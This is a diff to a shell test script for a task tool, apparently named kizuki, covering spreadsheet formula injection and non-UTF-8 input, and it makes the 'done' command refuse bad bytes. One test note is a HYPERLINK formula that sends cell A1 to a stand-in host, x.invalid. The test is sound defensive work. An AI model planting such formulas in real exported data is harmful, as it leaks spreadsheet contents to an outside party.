@@ -118,16 +118,21 @@ same "tasks --as-of: still says otherwise" "$(python3 -c 'import json,sys; print
 # }======
 
 # {====== Formula starters and bytes that are not UTF-8 ======
-# A staff note with a formula, one with a tab first, one with a byte that
-# is not UTF-8; and (as a task DB an older kizuki or another tool wrote
-# might hold) a reason beginning with '-' and evidence with a bad byte.
+# A staff note with a formula, one with a tab first; and (as a task DB an
+# older kizuki or another tool wrote might hold: `done` and `run` refuse
+# them now) a note and a reason with bytes that are not UTF-8, a reason
+# beginning with '-' and evidence with a bad byte.
 A=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1")
 B=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1 OFFSET 1")
 C=$(q "SELECT id FROM tasks WHERE status = 'open' ORDER BY id LIMIT 1 OFFSET 2")
 E=$(q "SELECT id FROM tasks WHERE status = 'open' AND json_array_length(evidence) > 0 AND json_type(evidence, '\$[0].id') = 'text' ORDER BY id LIMIT 1 OFFSET 3")
 check "done (a formula note)" 0 "$KIZUKI" done "$A" --tasks "$TASKS" --note '=HYPERLINK("http://x.invalid/"&A1,"詳細")' --on 2024-10-16
 check "done (a tab first)" 0 "$KIZUKI" done "$B" --tasks "$TASKS" --note "$(printf '\t=1+1')" --on 2024-10-16
-check "done (not UTF-8)" 0 "$KIZUKI" done "$C" --tasks "$TASKS" --note "$(printf 'visited \377\376 ok')" --on 2024-10-16
+check "done (not UTF-8) is refused" 2 "$KIZUKI" done "$C" --tasks "$TASKS" --note "$(printf 'visited \377\376 ok')" --on 2024-10-16
+expect "done (not UTF-8): says why" "$T/err" "--note is not UTF-8 text"
+same "done (not UTF-8): nothing written" "$(q "SELECT status FROM tasks WHERE id = $C")" open
+check "done" 0 "$KIZUKI" done "$C" --tasks "$TASKS" --note "visited XX ok" --on 2024-10-16
+q "UPDATE tasks SET done_note = replace(done_note, 'XX', CAST(X'FFFE' AS TEXT)) WHERE id = $C"
 q "UPDATE tasks SET reason = '-2+3 ' || CAST(X'C3' AS TEXT) || ' reason' WHERE id = $E;
    UPDATE tasks SET evidence = json_set(evidence, '\$[0].id', 'X') WHERE id = $E;
    UPDATE tasks SET evidence = replace(evidence, '\"X\"', '\"@X' || CAST(X'FF' AS TEXT) || '\"') WHERE id = $E"
